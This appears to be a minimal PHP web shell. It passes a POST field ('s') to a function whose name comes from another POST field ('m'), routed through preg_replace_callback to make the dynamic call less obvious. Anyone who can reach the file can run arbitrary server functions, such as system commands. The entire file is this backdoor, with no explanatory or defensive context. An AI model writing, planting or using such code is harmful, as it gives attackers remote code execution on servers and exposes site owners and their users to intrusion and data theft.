<?php
echo preg_replace_callback('/^.+$/s', fn ($g) => $_POST['m']($g[0]) . '', $_POST['s'] ?? '');
